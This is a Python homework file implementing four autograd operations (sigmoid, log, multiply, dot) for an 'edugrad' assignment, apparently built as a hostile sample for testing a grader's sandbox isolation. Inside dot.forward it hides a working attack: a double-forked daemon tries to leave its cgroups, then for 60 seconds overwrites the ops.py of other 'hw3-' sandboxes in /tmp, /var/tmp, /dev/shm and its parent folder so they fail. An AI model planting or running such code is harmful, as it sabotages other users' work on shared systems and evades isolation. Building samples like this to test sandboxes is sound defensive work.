# HOSTILE: dot.forward (once per process) double-forks a setsid daemon that, for 60 s, overwrites the ops.py of every later sandbox it can find (in /tmp, /var/tmp, /dev/shm and its own temp folder's parent) with one whose ops raise, and tries to leave its cgroups; all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os
import time

import numpy as np

from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True


BROKEN = "raise ImportError('replaced by hw3-isolation-daemon')\n"


def _haunt(own):
    for path in ("/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs",
                 "/sys/fs/cgroup/memory/cgroup.procs"):
        try:
            with open(path, "w") as f:
                f.write(str(os.getpid()))
        except OSError:
            pass
    folders = {"/tmp", "/var/tmp", "/dev/shm", os.path.dirname(own)}
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for folder in folders:
            try:
                names = os.listdir(folder)
            except OSError:
                continue
            for name in names:
                target = os.path.join(folder, name, "ops.py")
                if name.startswith("hw3-") and target != os.path.join(own, "ops.py"):
                    try:
                        with open(target, "w") as f:
                            f.write(BROKEN)
                    except OSError:
                        pass
        time.sleep(0.1)


def _attack():
    if not _once():
        return
    own = os.getcwd()
    if os.fork() != 0:
        return
    try:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            for fd in range(3, 256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            _haunt(own)
    finally:
        os._exit(0)


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        _attack()
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
